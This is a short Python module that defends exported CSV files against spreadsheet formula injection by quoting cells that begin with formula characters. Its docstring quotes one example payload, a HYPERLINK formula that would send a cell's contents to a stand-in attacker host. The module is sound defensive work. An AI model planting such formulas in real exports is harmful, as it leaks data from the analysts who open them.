"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return) as a formula: a free-text answer of
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would run in the analyst's spreadsheet
(OWASP's "CSV injection"). Every exported text cell that starts so gets a single quote in
front, which spreadsheets show as text. A plain number (``-3``, ``+447700900123``) is left as
it is: it cannot hold a formula, and phone numbers keep reading back through ``panel import``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when a spreadsheet would take it for a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Each cell of a CSV row through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]
